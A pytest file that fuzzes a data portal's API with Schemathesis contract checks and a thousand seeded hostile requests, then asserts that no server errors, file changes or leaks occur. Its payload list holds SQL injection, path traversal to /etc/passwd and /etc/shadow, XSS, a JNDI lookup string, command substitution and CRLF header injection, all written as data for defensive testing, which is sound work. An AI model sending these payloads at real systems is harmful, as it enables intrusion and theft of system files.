"""What the API answers to anything at all: Schemathesis on its OpenAPI document, and a thousand hostile requests."""

import hashlib
import json
import random
import shutil
from collections import Counter
from pathlib import Path
from urllib.parse import quote

import pytest
import schemathesis
from hypothesis import HealthCheck, Phase, given, seed, settings
from schemathesis.checks import not_a_server_error
from schemathesis.specs.openapi.checks import (
    content_type_conformance,
    response_headers_conformance,
    response_schema_conformance,
    status_code_conformance,
)

from contimg_portal.app import create_app
from contimg_resources.products import Products
from contimg_resources.settings import Settings
from contimg_resources.settings_api import ApiSettings
from contimg_resources.store.connection import Store
from tests.portal.conftest import serve
from tests.portal.operations_rows import fill_operations

TOKEN = "a-token-of-some-length"  # noqa: S105 (of this test only)
N_HOSTILE = 1000
MOST_EXAMPLES = 12
_CHECKS = [
    not_a_server_error,
    status_code_conformance,
    content_type_conformance,
    response_schema_conformance,
    response_headers_conformance,
]
_BOUNDED = settings(
    max_examples=MOST_EXAMPLES,
    derandomize=True,
    deadline=None,
    database=None,
    phases=[Phase.explicit, Phase.generate],
    suppress_health_check=list(HealthCheck),
)


@pytest.fixture(scope="module")
def folder(tmp_path_factory, synthetic_folder):
    """A folder with a filled store and a report, in a folder of its own that nobody else writes."""
    made = tmp_path_factory.mktemp("contract") / "data"
    shutil.copytree(synthetic_folder, made)
    fill_operations(Products(made))
    return made


@pytest.fixture(scope="module")
def app(folder):
    """The real portal on that store, with more requests a minute than anybody makes."""
    api = ApiSettings(computes_per_minute=10**6, writes_per_minute=10**6, reads_per_minute=10**6)
    made = create_app(Settings(data=folder, portal_token=TOKEN, api=api))
    yield made
    made.state.jobs.close()
    made.state.store.close()


def test_every_answer_is_as_documented(app):
    """Whatever Schemathesis asks, the portal never fails, and status, type and body are as the document says."""
    schema = schemathesis.openapi.from_dict(app.openapi())
    schema.app = app
    headers = {"Authorization": f"Bearer {TOKEN}"}
    n_operations = 0
    for result in schema.get_all_operations():
        operation = result.ok()
        n_operations += 1

        @seed(1)
        @_BOUNDED
        @given(case=operation.as_strategy())
        def ask(case):
            case.call_and_validate(headers=headers, checks=_CHECKS)

        ask()
    assert n_operations >= 30


_FRAGMENTS = (
    "' OR '1'='1",
    "'; DROP TABLE source; --",
    "1; ATTACH '/tmp/evil.duckdb'",
    "x') UNION SELECT * FROM read_csv('/etc/passwd') --",
    "COPY source TO '/tmp/evil.csv'",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "....//....//etc/shadow",
    "/etc/passwd\x00.html",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil}",
    "{{7*7}}",
    "$(touch /tmp/evil)",
    "NaN",
    "nan",
    "inf",
    "-Infinity",
    "1e999",
    "99999999999999999999999",
    "-1",
    "\u202e\ud7ff",
    "A" * 5000,
    "%00",
    "\r\nSet-Cookie: evil=1",
)
_PLACES = (
    "/api/v1/observations/{}",
    "/api/v1/sources/{}",
    "/api/v1/sources/{}/light-curve",
    "/api/v1/sources/{}/variability",
    "/api/v1/candidates/{}",
    "/api/v1/reports/{}",
    "/api/v1/dead-letters/{}",
    "/api/v1/jobs/{}/result",
    "/sources/{}",
    "/candidates/{}",
    "/static/{}",
    "/bokeh/{}",
    "/api/v1/observations?limit={}",
    "/api/v1/observations?status={}",
    "/api/v1/observations?partition_key={}",
    "/api/v1/sources?offset={}",
    "/api/v1/sources?band={}",
    "/api/v1/sources?name={}",
    "/api/v1/sources?ra_deg={0}&dec_deg={0}",
    "/api/v1/sources?min_eta={}",
    "/api/v1/candidates?verdict={}",
    "/api/v1/checks?asset={}",
    "/api/v1/timings/summary?days={}",
    "/candidates?limit={}",
)


def hostile_request(chosen):
    """Method, path, body and headers of an attack on a place, with fragments joined and encoded in some way."""
    text = "".join(chosen.choices(_FRAGMENTS, k=chosen.choice((1, 1, 2))))
    if chosen.random() < 0.3:
        place = chosen.choice(
            ("/api/v1/candidates/{}/review", "/api/v1/dead-letters/{}/retry", "/api/v1/alerts/{}/acknowledge")
        )
        return "POST", place.format(quote(text, safe="")), {"kind": text, "by": text, "reason": text}
    if chosen.random() < 0.15:
        number = chosen.choice((text, float("nan"), float("inf"), -1e400, 10**400))
        point = {"source_id": text, "mjd": number, "flux_jy": number, "flux_err_jy": number}
        return "POST", "/api/v1/variability", {"points": [point], "source_ids": [text]}
    safe = chosen.choice(("", "/", "/%"))
    return "GET", chosen.choice(_PLACES).format(quote(text, safe=safe)), None


def _contents(folder):
    """Every file below a folder with a hash of its bytes."""
    return {
        str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


def test_hostile_requests_reach_neither_store_nor_disk(folder, tmp_path_factory):
    """A thousand attacks, with the right token: no 5xx, no byte of the data folder changes, no file appears, nothing leaks."""
    settings_of_portal = Settings(data=folder, portal_token=TOKEN, api=ApiSettings(writes_per_minute=10**6))
    chosen = random.Random(20_260_213)  # noqa: S311 (seeded on purpose)
    around = folder.parent
    before, rows = _contents(around), _rows(folder)
    answers = Counter()
    with serve(settings_of_portal) as client:
        for _ in range(N_HOSTILE):
            method, path, body = hostile_request(chosen)
            content = None if body is None else json.dumps(body)
            headers = {"Authorization": f"Bearer {TOKEN}", "Content-Type": "application/json"}
            answer = client.request(method, path, content=content, headers=headers)
            answers[answer.status_code] += 1
            assert answer.status_code < 500, (method, path, answer.text)
            assert "root:" not in answer.text
            assert "set-cookie" not in answer.headers
    assert sum(answers.values()) == N_HOSTILE
    assert answers[404] + answers[422] + answers[429] > 0.9 * N_HOSTILE, answers
    assert _contents(around) == before
    assert _rows(folder) == rows
    assert not [path for path in ("/tmp/evil", "/tmp/evil.csv", "/tmp/evil.duckdb") if Path(path).exists()]  # noqa: S108


def _rows(folder):
    store = Store(Products(folder).store_path)
    return {table: store.query(f'SELECT count(*), sum(hash(t)) FROM "{table}" t').row(0) for table in store.tables}
